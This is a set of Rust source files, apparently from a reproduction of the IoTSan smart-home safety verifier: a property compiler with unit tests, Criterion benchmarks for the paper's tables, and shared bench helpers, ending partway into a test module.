            Atom::AnyoneHome => {
                // Resolved at compile time: with presence sensors installed,
                // "anyone home" means some sensor reports `present`; without
                // any, the location mode not being Away is the paper's proxy.
                let presence = DeviceSelect::capability("presenceSensor");
                let slots = self.target.attr_slots(&presence, "presence");
                if slots.is_empty() {
                    let slot = self.slot(CAtom::ModeIs("Away".to_string()));
                    self.ops.push(Op::Push(slot));
                    self.ops.push(Op::Not);
                    return;
                }
                CAtom::AnyAttrEq { slots, value: "present".to_string() }
            }
            Atom::AnyAttr(t) => {
                let slots = self.target.attr_slots(&t.select, &t.attribute);
                if slots.is_empty() {
                    CAtom::Const(false)
                } else {
                    CAtom::AnyAttrEq { slots, value: t.value.clone() }
                }
            }
            Atom::AllAttr(t) => {
                // Match the interpreted semantics exactly: a selected device
                // *without* the attribute fails the test (`attr_is` on a
                // missing attribute is false).  Attribute layouts are fixed
                // at install time, so that case folds to a constant.
                let selected = self.target.device_slots(&t.select).len();
                let slots = self.target.attr_slots(&t.select, &t.attribute);
                if slots.len() < selected {
                    CAtom::Const(false)
                } else if slots.is_empty() {
                    CAtom::Const(true)
                } else {
                    CAtom::AllAttrEq { slots, value: t.value.clone() }
                }
            }
            Atom::HasDevice(select) => CAtom::Const(!self.target.device_slots(select).is_empty()),
            Atom::AnyOffline(select) => {
                let devices = self.target.device_slots(select);
                if devices.is_empty() {
                    CAtom::Const(false)
                } else {
                    CAtom::AnyOffline { devices }
                }
            }
            Atom::AnyBelow(t) => {
                let slots = self.target.attr_slots(&t.select, &t.attribute);
                if slots.is_empty() {
                    CAtom::Const(false)
                } else {
                    CAtom::AnyBelow { slots, threshold: t.threshold }
                }
            }
            Atom::AnyAbove(t) => {
                let slots = self.target.attr_slots(&t.select, &t.attribute);
                if slots.is_empty() {
                    CAtom::Const(false)
                } else {
                    CAtom::AnyAbove { slots, threshold: t.threshold }
                }
            }
            Atom::ConflictingCommands => CAtom::Conflicting,
            Atom::RepeatedCommands => CAtom::Repeated,
            Atom::DisallowedNetwork => CAtom::DisallowedNetwork,
            Atom::SmsRecipientMismatch => CAtom::SmsMismatch,
            Atom::UnsubscribeCalled => CAtom::Unsubscribe,
            Atom::FakeEventRaised => CAtom::FakeEvent,
            Atom::CommandFailed => CAtom::CommandFailed,
            Atom::UserNotified => CAtom::UserNotified,
            Atom::CommandIssued(t) => CAtom::CommandIssued {
                command: t.command.clone(),
                devices: if t.select.is_any() {
                    None
                } else {
                    Some(self.target.device_ids(&t.select))
                },
            },
        };
        let slot = self.slot(lowered);
        self.ops.push(Op::Push(slot));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::snapshot::DeviceSnapshot;
    use crate::spec::PropertySpec;
    use iotsan_devices::DeviceId;
    use iotsan_ir::Value;

    fn household() -> Snapshot {
        let dev = |id: u32, cap: &str, role: DeviceRole, attrs: &[(&str, &str)]| DeviceSnapshot {
            id: DeviceId(id),
            label: format!("d{id}"),
            capability: cap.into(),
            role,
            attributes: attrs
                .iter()
                .map(|(n, v)| (n.to_string(), Value::Str(v.to_string())))
                .collect(),
            online: true,
        };
        Snapshot {
            mode: "Home".into(),
            devices: vec![
                dev(0, "presenceSensor", DeviceRole::Generic, &[("presence", "present")]),
                dev(1, "lock", DeviceRole::MainDoorLock, &[("lock", "locked")]),
                dev(2, "smokeDetector", DeviceRole::Generic, &[("smoke", "clear")]),
                dev(3, "switch", DeviceRole::Heater, &[("switch", "off")]),
            ],
            time_seconds: 0,
        }
    }

    fn compile_one(spec: PropertySpec, snapshot: &Snapshot) -> CompiledPropertySet {
        let set = PropertySet::from_specs(vec![spec]);
        CompiledPropertySet::compile(&set, &CompileTarget::from_snapshot(snapshot))
    }

    fn violated(
        compiled: &CompiledPropertySet,
        snapshot: &Snapshot,
        step: &StepObservation,
    ) -> Vec<u32> {
        let mut monitors = vec![0u8; compiled.monitor_count()];
        let mut scratch = EvalScratch::default();
        let mut out = Vec::new();
        compiled.check_transition(snapshot, step, &mut monitors, &mut scratch, &mut out);
        out.into_iter().map(|id| id.0).collect()
    }

    #[test]
    fn selectors_resolve_to_slots_and_constants_fold() {
        let snapshot = household();
        let spec = PropertySpec::builder(1, "p").never(Expr::and([
            Expr::has_device(DeviceSelect::role("heater")),
            Expr::capability_attr("lock", "lock", "unlocked"),
        ]));
        let compiled = compile_one(spec, &snapshot);
        // `has_device` folded into a constant, the attr test into one atom.
        assert!(compiled.atom_count() <= 2);
        let step = StepObservation::default();
        assert!(violated(&compiled, &snapshot, &step).is_empty());
        let mut unlocked = snapshot.clone();
        unlocked.devices[1].attributes[0].1 = Value::Str("unlocked".into());
        assert_eq!(violated(&compiled, &unlocked, &step), vec![1]);
    }

    #[test]
    fn anyone_home_compiles_to_presence_or_mode_fallback() {
        let snapshot = household();
        let spec = PropertySpec::builder(1, "p").always(Expr::anyone_home());
        let compiled = compile_one(spec.clone(), &snapshot);
        let step = StepObservation::default();
        assert!(violated(&compiled, &snapshot, &step).is_empty());
        let mut gone = snapshot.clone();
        gone.devices[0].attributes[0].1 = Value::Str("not present".into());
        assert_eq!(violated(&compiled, &gone, &step), vec![1]);

        // No presence sensors: mode decides.
        let mut bare = Snapshot { mode: "Home".into(), devices: vec![], time_seconds: 0 };
        let compiled = compile_one(spec, &bare);
        assert!(violated(&compiled, &bare, &step).is_empty());
        bare.mode = "Away".into();
        assert_eq!(violated(&compiled, &bare, &step), vec![1]);
    }

    #[test]
    fn compiled_verdicts_match_interpreted_for_builtins() {
        // Every built-in property agrees with the interpreted reference on a
        // handful of hand-made situations.
        let set = PropertySet::all();
        let mut snapshot = household();
        snapshot.mode = "Night".into();
        snapshot.devices[1].attributes[0].1 = Value::Str("unlocked".into());
        snapshot.devices[2].attributes[0].1 = Value::Str("detected".into());
        snapshot.devices[2].online = false;
        snapshot.devices[3].attributes[0].1 = Value::Str("on".into());
        let step = StepObservation::default();
        let compiled = CompiledPropertySet::compile(&set, &CompileTarget::from_snapshot(&snapshot));
        let mut got = violated(&compiled, &snapshot, &step);
        got.sort_unstable();
        let mut want: Vec<u32> =
            set.check_point(&snapshot, &step).into_iter().map(|id| id.0).collect();
        want.sort_unstable();
        assert_eq!(got, want);
        assert!(!want.is_empty());
    }

    #[test]
    fn step_only_pass_skips_state_properties() {
        let snapshot = household();
        let set = PropertySet::all();
        let compiled = CompiledPropertySet::compile(&set, &CompileTarget::from_snapshot(&snapshot));
        let step = StepObservation {
            unsubscribes: vec!["A".into()],
            command_failures: 1,
            ..Default::default()
        };
        let mut monitors = vec![0u8; compiled.monitor_count()];
        let mut scratch = EvalScratch::default();
        let mut out = Vec::new();
        compiled.check_step_only(&step, &mut monitors, &mut scratch, &mut out);
        let ids: Vec<u32> = out.iter().map(|id| id.0).collect();
        // Unsubscribe (43) and the same-step robustness response (45) fire;
        // no physical-state property can.
        assert_eq!(ids, vec![43, 45]);
    }

    #[test]
    fn leads_to_monitors_count_down_and_discharge() {
        let spec = PropertySpec::builder(9, "failures notify within 2").leads_to(
            Expr::atom(Atom::CommandFailed),
            Expr::atom(Atom::UserNotified),
            2,
        );
        let snapshot = Snapshot::default();
        let compiled = compile_one(spec, &snapshot);
        assert_eq!(compiled.monitor_count(), 1);
        let failing = StepObservation { command_failures: 1, ..Default::default() };
        let quiet = StepObservation::default();
        let notified = StepObservation {
            messages: vec![crate::snapshot::MessageRecord {
                app: "A".into(),
                channel: crate::snapshot::MessageChannel::Push,
                recipient: String::new(),
                body: "b".into(),
            }],
            ..Default::default()
        };
        let mut scratch = EvalScratch::default();

        // Trigger, silence, silence → violated exactly on the second
        // follow-up step.
        let mut monitors = vec![0u8];
        let mut out = Vec::new();
        compiled.check_transition(&snapshot, &failing, &mut monitors, &mut scratch, &mut out);
        assert!(out.is_empty());
        assert_eq!(monitors, vec![2]);
        compiled.check_transition(&snapshot, &quiet, &mut monitors, &mut scratch, &mut out);
        assert!(out.is_empty());
        compiled.check_transition(&snapshot, &quiet, &mut monitors, &mut scratch, &mut out);
        assert_eq!(out.iter().map(|id| id.0).collect::<Vec<_>>(), vec![9]);
        assert_eq!(monitors, vec![0]);

        // Trigger then notify → obligation discharged, never violated.
        let mut monitors = vec![0u8];
        let mut out = Vec::new();
        compiled.check_transition(&snapshot, &failing, &mut monitors, &mut scratch, &mut out);
        compiled.check_transition(&snapshot, &notified, &mut monitors, &mut scratch, &mut out);
        compiled.check_transition(&snapshot, &quiet, &mut monitors, &mut scratch, &mut out);
        assert!(out.is_empty());
        assert_eq!(monitors, vec![0]);
    }

    #[test]
    fn leads_to_retrigger_keeps_the_earliest_deadline() {
        // The counter tracks the first deadline to expire: a second trigger
        // while an obligation is open must not extend it, or the first
        // obligation's violation would be missed entirely.
        let spec = PropertySpec::builder(9, "failures notify within 2").leads_to(
            Expr::atom(Atom::CommandFailed),
            Expr::atom(Atom::UserNotified),
            2,
        );
        let snapshot = Snapshot::default();
        let compiled = compile_one(spec, &snapshot);
        let failing = StepObservation { command_failures: 1, ..Default::default() };
        let quiet = StepObservation::default();
        let mut scratch = EvalScratch::default();
        let mut monitors = vec![0u8];
        let mut out = Vec::new();
        // t0: trigger (deadline t2).  t1: trigger again — countdown must
        // keep counting the t0 obligation (slot 1, not refreshed to 2).
        compiled.check_transition(&snapshot, &failing, &mut monitors, &mut scratch, &mut out);
        compiled.check_transition(&snapshot, &failing, &mut monitors, &mut scratch, &mut out);
        assert!(out.is_empty());
        assert_eq!(monitors, vec![1]);
        // t2: silence — the t0 deadline expires.
        compiled.check_transition(&snapshot, &quiet, &mut monitors, &mut scratch, &mut out);
        assert_eq!(out.iter().map(|id| id.0).collect::<Vec<_>>(), vec![9]);
    }

    #[test]
    #[should_panic(expected = "monitor bound is 255")]
    fn leads_to_within_beyond_the_monitor_bound_fails_compilation() {
        let spec = PropertySpec {
            id: 9,
            name: "huge".into(),
            category: String::new(),
            class: crate::spec::PropertyClass::Custom("Custom".into()),
            modality: crate::spec::Modality::LeadsTo(crate::spec::LeadsTo {
                trigger: Expr::atom(Atom::CommandFailed),
                response: Expr::atom(Atom::UserNotified),
                within: 1000,
            }),
            ltl: None,
        };
        let set = PropertySet::from_specs(vec![spec]);
        let _ = CompiledPropertySet::compile(&set, &CompileTarget::default());
    }

    #[test]
    fn builtin_corpus_needs_no_monitors() {
        // The paper corpus only uses same-step response (within = 0), so the
        // model-checker state vector stays byte-identical to the pre-spec
        // catalog.
        let compiled = CompiledPropertySet::compile(
            &PropertySet::all(),
            &CompileTarget::from_snapshot(&household()),
        );
        assert_eq!(compiled.monitor_count(), 0);
    }
}
