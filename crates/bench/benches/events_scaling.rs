//! Criterion benchmark behind Table 8: sequential verification time as the
//! number of external events grows (5 related apps, 10 devices).
//!
//! The paper reports 6.61 s at 6 events growing to 23.39 h at 11 events; the
//! reproduction exercises the same exponential growth at laptop-friendly
//! event counts.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use iotsan_apps::samples;
use iotsan_bench::{expert_config, run_sequential, translate_group};
use std::time::Duration;

fn bench_event_scaling(c: &mut Criterion) {
    let apps = translate_group(&samples::table8_group());
    let config = expert_config(&apps);
    let budget = Duration::from_secs(30);

    let mut group = c.benchmark_group("table8_events_scaling");
    group.sample_size(10);
    for events in [1usize, 2, 3, 4] {
        group.bench_with_input(BenchmarkId::from_parameter(events), &events, |b, &events| {
            b.iter(|| run_sequential(&apps, &config, events, budget))
        });
    }
    group.finish();
}

criterion_group!(benches, bench_event_scaling);
criterion_main!(benches);
