//! Criterion benchmark behind Table 7a: cost of the App Dependency Analyzer
//! and the size reduction it produces on the six 25-app market groups.
//!
//! Table 7a is primarily about the scale ratio (problem-size reduction, mean
//! ≈ 3.4×), which the `repro table7a` command prints; this benchmark measures
//! that the analysis itself is cheap (the paper notes the conflicting-output
//! check "is very fast" despite its O(E²) worst case).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use iotsan::depgraph::analyze;
use iotsan_apps::market;
use iotsan_bench::translate_group;

fn bench_dependency_analysis(c: &mut Criterion) {
    let groups: Vec<_> = market::six_groups().iter().map(|g| translate_group(g)).collect();

    let mut bench_group = c.benchmark_group("table7a_dependency_analysis");
    for (i, apps) in groups.iter().enumerate() {
        bench_group.bench_with_input(BenchmarkId::from_parameter(i + 1), apps, |b, apps| {
            b.iter(|| analyze(apps))
        });
    }
    bench_group.finish();
}

criterion_group!(benches, bench_dependency_analysis);
criterion_main!(benches);
