//! Criterion benchmark for the parallel search engine: the bench-profile
//! scaling workload (8 market apps with failure injection, ~2.3k states and
//! ~15k transitions at 3 events) verified with the sequential checker and
//! with the `ParallelChecker` at 2, 4 and 8 workers.
//!
//! The paper has no multi-core numbers (Spin ran single-core on the authors'
//! laptop); this benchmark tracks the reproduction's own scaling.  Speedup is
//! bounded by the host's core count — on a single-vCPU container the
//! interesting signal is that parallel overhead stays near zero, while on
//! multi-core hosts the 4-worker row should sit well below the sequential
//! baseline.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use iotsan_bench::{run_search, scaling_workload};
use std::time::Duration;

fn bench_parallel_scaling(c: &mut Criterion) {
    let (apps, config) = scaling_workload();
    let events = 3;
    let budget = Duration::from_secs(60);

    let mut group = c.benchmark_group("parallel_scaling");
    group.sample_size(5);
    group.bench_with_input(BenchmarkId::new("sequential", 1), &1usize, |b, _| {
        b.iter(|| run_search(&apps, &config, events, 1, true, budget))
    });
    for workers in [2usize, 4, 8] {
        group.bench_with_input(BenchmarkId::new("parallel", workers), &workers, |b, &workers| {
            b.iter(|| run_search(&apps, &config, events, workers, true, budget))
        });
    }
    group.finish();
}

criterion_group!(benches, bench_parallel_scaling);
criterion_main!(benches);
