//! Criterion benchmark behind Table 7b: concurrent vs sequential design.
//!
//! The paper verifies a good group of apps (Good Night, It's Too Cold over
//! 3 switches, 3 motion sensors and a temperature sensor) with both designs
//! and shows the concurrent model becoming unusable beyond 3 events while the
//! sequential model stays in seconds.  The benchmark measures both designs at
//! small event counts so the relative gap (the *shape*) is visible in the
//! Criterion report.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use iotsan_apps::samples;
use iotsan_bench::{expert_config, run_concurrent, run_sequential, translate_group};
use std::time::Duration;

fn bench_designs(c: &mut Criterion) {
    let apps = translate_group(&samples::good_group());
    let config = expert_config(&apps);
    let budget = Duration::from_secs(20);

    let mut group = c.benchmark_group("table7b_concurrent_vs_sequential");
    group.sample_size(10);
    for events in [1usize, 2, 3] {
        group.bench_with_input(BenchmarkId::new("sequential", events), &events, |b, &events| {
            b.iter(|| run_sequential(&apps, &config, events, budget))
        });
        group.bench_with_input(BenchmarkId::new("concurrent", events), &events, |b, &events| {
            b.iter(|| run_concurrent(&apps, &config, events, budget))
        });
    }
    group.finish();
}

criterion_group!(benches, bench_designs);
criterion_main!(benches);
