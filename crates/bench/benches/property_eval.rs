//! Criterion micro-benchmark for the compiled property evaluators in
//! isolation: one `CompiledPropertySet::check_transition` pass — the
//! deduplicated atom slots filled once, then every property's postfix
//! program — exactly what the checker pays per explored transition on top
//! of `apply` + `encode`.
//!
//! Three rows: the 45 built-ins, built-ins + 5 custom specs (the open-API
//! overhead), and spec→program compilation itself (the install-time cost).

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion};
use iotsan::properties::{EvalScratch, PropertySet, StepObservation};
use iotsan::system::InstalledSystem;
use iotsan_bench::{extended_property_set, fleet_workload};

fn bench_property_eval(c: &mut Criterion) {
    let (apps, config) = fleet_workload(8);
    let system = InstalledSystem::new(apps, config);
    let snapshot = system.snapshot(&system.initial_state());
    let observation = StepObservation::default();

    let builtins = PropertySet::all();
    let extended = extended_property_set();

    let mut group = c.benchmark_group("property_eval");
    group.sample_size(20);

    for (label, set) in [("builtins45", &builtins), ("builtins45_plus5", &extended)] {
        let compiled = system.compile_properties(set);
        let mut monitors = vec![0u8; compiled.monitor_count()];
        let mut scratch = EvalScratch::default();
        let mut out = Vec::new();
        group.bench_with_input(BenchmarkId::new("check_transition", label), &(), |b, ()| {
            b.iter(|| {
                out.clear();
                compiled.check_transition(
                    black_box(&snapshot),
                    black_box(&observation),
                    &mut monitors,
                    &mut scratch,
                    &mut out,
                );
                black_box(out.len())
            })
        });
    }

    // Install-time compilation (selectors → slots, formulas → programs).
    group.bench_with_input(BenchmarkId::new("compile", "builtins45_plus5"), &(), |b, ()| {
        b.iter(|| black_box(system.compile_properties(&extended).atom_count()))
    });

    group.finish();
}

criterion_group!(benches, bench_property_eval);
criterion_main!(benches);
