//! Criterion micro-benchmark for the state-representation hot path in
//! isolation: `SystemState::encode_into` (the flat fixed-layout write over
//! interned slots) followed by a visited-set probe (one FNV-1a pass keying
//! exact, hash-compact and bitstate storage).
//!
//! This pair runs once per explored transition, so state-layout changes that
//! are invisible in end-to-end sweeps show up here.  The loop reuses one
//! encode buffer and probes an *already populated* store — the steady-state
//! shape — so a flat time profile across iterations doubles as evidence that
//! the path allocates nothing per probe.

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion};
use iotsan::checker::StoreKind;
use iotsan::model::{ModelOptions, SequentialModel};
use iotsan::properties::PropertySet;
use iotsan::system::{InstalledSystem, SystemState};
use iotsan_bench::fleet_workload;

/// A mid-size market-corpus state: 8 apps under their expert configuration,
/// with a few mutations applied so slots and device values are non-default.
fn mid_size_state() -> (InstalledSystem, SystemState) {
    let (apps, config) = fleet_workload(8);
    let system = InstalledSystem::new(apps, config);
    let mut state = system.initial_state();
    for (index, device) in system.devices.iter().enumerate() {
        if index % 2 == 0 {
            let spec = device.spec();
            if !spec.attributes.is_empty() {
                state.devices[index].set_index_at(spec, 0, spec.attributes[0].domain.len() - 1);
            }
        }
    }
    (system, state)
}

fn bench_state_encode(c: &mut Criterion) {
    let (system, state) = mid_size_state();
    let model = SequentialModel::new(system, PropertySet::all(), ModelOptions::with_events(3));

    let mut group = c.benchmark_group("state_encode");
    group.sample_size(20);

    // Encode alone: the flat fixed-layout write into a reused buffer.
    group.bench_with_input(BenchmarkId::new("encode", "market8"), &state, |b, state| {
        let mut buf = Vec::new();
        b.iter(|| {
            buf.clear();
            state.encode_into(&mut buf);
            black_box(buf.len())
        })
    });

    // Encode + visited-set probe per backend, against a pre-populated store
    // (the depth tag varies so the store holds distinct entries, like the
    // checker's (state, depth) identity).
    for (label, kind) in [
        ("exact", StoreKind::Exact),
        ("hash_compact", StoreKind::HashCompact),
        ("bitstate", StoreKind::Bitstate { log2_bits: 20, hash_functions: 3 }),
    ] {
        group.bench_with_input(BenchmarkId::new("encode_probe", label), &state, |b, state| {
            let mut store = kind.build();
            let mut buf = Vec::new();
            for depth in 0..=u8::MAX {
                buf.clear();
                state.encode_into(&mut buf);
                buf.push(depth);
                store.insert(&buf);
            }
            let mut depth = 0u8;
            b.iter(|| {
                buf.clear();
                state.encode_into(&mut buf);
                buf.push(depth);
                depth = depth.wrapping_add(1);
                black_box(store.contains(&buf))
            })
        });
    }

    // One full transition for scale: encode+probe should be a small fraction.
    group.bench_with_input(BenchmarkId::new("full_transition", "market8"), &state, |b, state| {
        use iotsan::checker::{StepLog, TransitionSystem};
        let mut actions = Vec::new();
        model.actions(state, &mut actions);
        let action = actions[0];
        let mut scratch = Default::default();
        let mut log = StepLog::disabled();
        b.iter(|| black_box(model.apply(state, &action, &mut scratch, &mut log).state))
    });

    group.finish();
}

criterion_group!(benches, bench_state_encode);
criterion_main!(benches);
