//! # iotsan-bench
//!
//! Shared helpers for the reproduction harness (`repro` binary) and the
//! Criterion benchmarks.  Each table and figure of the paper's evaluation has
//! a corresponding experiment here; see `EXPERIMENTS.md` at the repository
//! root for the paper-vs-measured comparison.

#![deny(missing_docs)]

use iotsan::checker::{Checker, ParallelChecker, SearchConfig, SearchReport};
use iotsan::config::{expert_configure, misconfigure, standard_household, SystemConfig};
use iotsan::ir::IrApp;
use iotsan::model::{ConcurrentModel, ModelOptions, SequentialModel};
use iotsan::planner::{FleetReport, VerificationCache};
use iotsan::properties::PropertySet;
use iotsan::system::InstalledSystem;
use iotsan::{translate_sources, Pipeline, VerificationResult};
use iotsan_apps::market::MarketApp;
use std::time::{Duration, Instant};

/// Translates a group of market apps into IR (panicking on corpus bugs, which
/// the corpus tests rule out).
pub fn translate_group(group: &[MarketApp]) -> Vec<IrApp> {
    let sources: Vec<&str> = group.iter().map(|a| a.source.as_str()).collect();
    translate_sources(&sources).expect("corpus apps translate")
}

/// The expert configuration of a group over the standard household.
pub fn expert_config(apps: &[IrApp]) -> SystemConfig {
    expert_configure(apps, &standard_household())
}

/// A volunteer-style (misconfigured) configuration of a group.
pub fn volunteer_config(apps: &[IrApp], seed: u64) -> SystemConfig {
    misconfigure(apps, &standard_household(), seed)
}

/// True when the crate was built with the `bench` feature, which restores the
/// paper-scale experiment budgets (hours of model checking at the largest
/// event bounds) instead of the laptop-quick defaults.
pub const PAPER_SCALE: bool = cfg!(feature = "bench");

/// The per-run wall-clock budget for a `repro` experiment: `quick` seconds by
/// default, `full` seconds under `--features bench`.
pub fn experiment_budget(quick: u64, full: u64) -> Duration {
    Duration::from_secs(if PAPER_SCALE { full } else { quick })
}

/// The largest external-event bound a `repro` experiment sweeps to: `quick`
/// by default, `full` under `--features bench`.
pub fn experiment_events(quick: usize, full: usize) -> usize {
    if PAPER_SCALE {
        full
    } else {
        quick
    }
}

/// Builds a pipeline with the given external-event bound.
pub fn pipeline(max_events: usize) -> Pipeline {
    Pipeline::with_events(max_events)
}

/// Result of timing a single verification run.
#[derive(Debug, Clone)]
pub struct TimedRun {
    /// Wall-clock duration.
    pub elapsed: Duration,
    /// The checker report.
    pub report: SearchReport,
    /// True when the run hit a resource cap instead of finishing.
    pub truncated: bool,
}

/// Fully-parameterized verification run over the sequential design:
/// `workers <= 1` uses the sequential engine, larger counts the parallel one,
/// and `failures` enables exhaustive device/communication failure injection
/// (which multiplies the enabled actions per state and is what makes the
/// scaling workload heavy).
pub fn run_search(
    apps: &[IrApp],
    config: &SystemConfig,
    events: usize,
    workers: usize,
    failures: bool,
    budget: Duration,
) -> TimedRun {
    run_search_with_properties(apps, config, events, workers, failures, budget, PropertySet::all())
}

/// [`run_search`] against an explicit property registry — the `repro
/// properties` experiment verifies the same workload under the built-ins and
/// under built-ins + custom [`iotsan::properties::PropertySpec`]s to show
/// the open property API adds no throughput cliff.
#[allow(clippy::too_many_arguments)]
pub fn run_search_with_properties(
    apps: &[IrApp],
    config: &SystemConfig,
    events: usize,
    workers: usize,
    failures: bool,
    budget: Duration,
    properties: PropertySet,
) -> TimedRun {
    let p = Pipeline::with_events(events);
    let restricted = p.restrict_config(apps, config);
    let system = InstalledSystem::new(apps.to_vec(), restricted);
    let mut options = ModelOptions::with_events(events);
    if failures {
        options = options.with_failures();
    }
    let model = SequentialModel::new(system, properties, options);
    let mut search = SearchConfig::with_depth(events).parallel(workers);
    search.time_limit = Some(budget);
    let start = Instant::now();
    // ParallelChecker delegates to the sequential engine for workers <= 1.
    let report = ParallelChecker::new(search).verify(&model);
    TimedRun { elapsed: start.elapsed(), truncated: report.stats.truncated, report }
}

/// Times one whole-pipeline verification — related-group partitioning plus
/// the optional property-directed slice — under an explicit property
/// registry.  Unlike [`run_search_with_properties`] (which builds one
/// monolithic model), this exercises the production `Pipeline::verify` path,
/// which is where `SearchConfig::slice` takes effect: each related group is
/// pruned to the handlers its properties can observe before exploration.
pub fn run_pipeline_verify(
    apps: &[IrApp],
    config: &SystemConfig,
    events: usize,
    properties: PropertySet,
    slice: bool,
) -> (Duration, VerificationResult) {
    let mut pipeline = Pipeline::with_events(events).with_properties(properties);
    if slice {
        pipeline.search = pipeline.search.clone().sliced();
    }
    let start = Instant::now();
    let result = pipeline.verify(apps, config);
    (start.elapsed(), result)
}

/// The 45 built-ins plus [`sample_custom_properties`] — the extended
/// registry every custom-property experiment row uses.
pub fn extended_property_set() -> PropertySet {
    let mut set = PropertySet::all();
    for spec in sample_custom_properties() {
        set.register(spec).expect("sample ids are free");
    }
    set
}

/// A handful of user-defined specs over the standard household — the custom
/// workload of the `repro properties` experiment and the `property_eval`
/// micro-benchmark.  Only same-step modalities, so the state space (and
/// therefore states/transitions) is identical to a built-ins-only run.
pub fn sample_custom_properties() -> Vec<iotsan::properties::PropertySpec> {
    use iotsan::properties::{Atom, DeviceSelect, Expr, PropertyClass, PropertySpec};
    vec![
        PropertySpec::builder(46, "No unlock command while nobody is home")
            .category("Custom")
            .class(PropertyClass::Custom("House rules".into()))
            .never(Expr::and([
                Expr::not(Expr::anyone_home()),
                Expr::command_issued(DeviceSelect::capability("lock"), "unlock"),
            ])),
        PropertySpec::builder(47, "Heater and lights off together when away")
            .category("Custom")
            .class(PropertyClass::Custom("House rules".into()))
            .never(Expr::and([
                Expr::mode_is("Away"),
                Expr::or([
                    Expr::role_attr("heater", "switch", "on"),
                    Expr::role_attr("light", "switch", "on"),
                ]),
            ])),
        PropertySpec::builder(48, "Garage stays shut when a leak is detected")
            .category("Custom")
            .class(PropertyClass::Custom("House rules".into()))
            .never(Expr::and([
                Expr::capability_attr("waterSensor", "water", "wet"),
                Expr::capability_attr("garageDoorControl", "door", "open"),
            ])),
        PropertySpec::builder(49, "Temperature stays above freezing-risk levels")
            .category("Custom")
            .class(PropertyClass::Custom("House rules".into()))
            .never(Expr::any_below(DeviceSelect::any(), "temperature", 40.0)),
        PropertySpec::builder(50, "A failed command never coincides with a fake event")
            .category("Custom")
            .class(PropertyClass::Custom("House rules".into()))
            .never(Expr::and([Expr::atom(Atom::CommandFailed), Expr::atom(Atom::FakeEventRaised)])),
    ]
}

/// Verifies a group with the sequential design and `events` external events.
pub fn run_sequential(
    apps: &[IrApp],
    config: &SystemConfig,
    events: usize,
    budget: Duration,
) -> TimedRun {
    run_search(apps, config, events, 1, false, budget)
}

/// Verifies a group with the sequential design and `workers` parallel search
/// workers over the sharded visited-state store (`workers <= 1` runs the
/// sequential engine, making it the natural baseline for a worker sweep).
pub fn run_parallel(
    apps: &[IrApp],
    config: &SystemConfig,
    events: usize,
    workers: usize,
    budget: Duration,
) -> TimedRun {
    run_search(apps, config, events, workers, false, budget)
}

/// The bench-profile workload for the worker-count sweep: the first 8 market
/// apps under their expert configuration, verified *with* failure injection.
/// At 3 events this explores a few thousand states / ~15k transitions —
/// enough work per state for the parallel engine to amortize its queue and
/// shard traffic, while staying CI-quick at one run per worker count.
pub fn scaling_workload() -> (Vec<IrApp>, SystemConfig) {
    fleet_workload(8)
}

/// The fleet workload at a chosen corpus size: the first `n` market apps
/// under their expert configuration.  Larger corpora yield more related
/// groups, which is the axis the `repro fleet` experiment sweeps.
pub fn fleet_workload(n: usize) -> (Vec<IrApp>, SystemConfig) {
    let corpus = iotsan_apps::market::market_apps();
    let group: Vec<MarketApp> = corpus.into_iter().take(n).collect();
    let apps = translate_group(&group);
    let config = expert_config(&apps);
    (apps, config)
}

/// Result of timing one fleet verification (planner + cache) run.
#[derive(Debug, Clone)]
pub struct FleetRun {
    /// Wall-clock duration of the whole fleet pass.
    pub elapsed: Duration,
    /// The merged fleet report.
    pub report: FleetReport,
}

impl FleetRun {
    /// Total states stored across all groups (cached groups replay the
    /// stored statistics).
    pub fn states(&self) -> usize {
        self.report.groups.iter().map(|g| g.report.stats.states_stored).sum()
    }

    /// Total transitions applied across all groups.
    pub fn transitions(&self) -> usize {
        self.report.groups.iter().map(|g| g.report.stats.transitions).sum()
    }

    /// True when any group's search hit a resource cap.
    pub fn truncated(&self) -> bool {
        self.report.groups.iter().any(|g| g.report.stats.truncated)
    }
}

/// One group-wise fleet verification pass through [`Pipeline::verify_fleet`]:
/// depgraph partitioning, per-group fingerprint lookup in `cache`, bounded
/// model checking of the misses (`workers <= 1` sequential, more parallel),
/// trace-driven attribution, deterministic merge.
pub fn run_fleet(
    apps: &[IrApp],
    config: &SystemConfig,
    events: usize,
    workers: usize,
    failures: bool,
    budget: Duration,
    cache: &mut VerificationCache,
) -> FleetRun {
    let mut pipeline = Pipeline::with_events(events).with_workers(workers);
    if failures {
        pipeline = pipeline.with_failures();
    }
    pipeline.search.time_limit = Some(budget);
    let start = Instant::now();
    let report = pipeline.verify_fleet(apps, config, cache);
    FleetRun { elapsed: start.elapsed(), report }
}

/// Verifies a group with the strict-concurrency design.
pub fn run_concurrent(
    apps: &[IrApp],
    config: &SystemConfig,
    events: usize,
    budget: Duration,
) -> TimedRun {
    let p = Pipeline::with_events(events);
    let restricted = p.restrict_config(apps, config);
    let system = InstalledSystem::new(apps.to_vec(), restricted);
    let model = ConcurrentModel::new(system, PropertySet::all(), ModelOptions::with_events(events));
    let depth = model.suggested_depth();
    let mut search = SearchConfig::with_depth(depth);
    search.time_limit = Some(budget);
    let start = Instant::now();
    let report = Checker::new(search).verify(&model);
    TimedRun { elapsed: start.elapsed(), truncated: report.stats.truncated, report }
}

/// Formats a duration the way the paper's tables do (seconds / minutes /
/// hours, or "forever" when the run was truncated by its budget).
pub fn format_duration(elapsed: Duration, truncated: bool) -> String {
    if truncated {
        return "forever (budget exceeded)".to_string();
    }
    let secs = elapsed.as_secs_f64();
    if secs < 60.0 {
        format!("{secs:.2}s")
    } else if secs < 3600.0 {
        format!("{:.1}m", secs / 60.0)
    } else {
        format!("{:.2}h", secs / 3600.0)
    }
}

/// [`format_duration`] for a [`TimedRun`].
pub fn format_runtime(run: &TimedRun) -> String {
    format_duration(run.elapsed, run.truncated)
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_apps::samples;

    #[test]
    fn helpers_round_trip_a_small_group() {
        let apps = translate_group(&samples::bad_group_mode_unlock());
        let config = expert_config(&apps);
        let run = run_sequential(&apps, &config, 1, Duration::from_secs(10));
        assert!(run.report.has_violations());
        assert!(!format_runtime(&run).is_empty());
    }

    #[test]
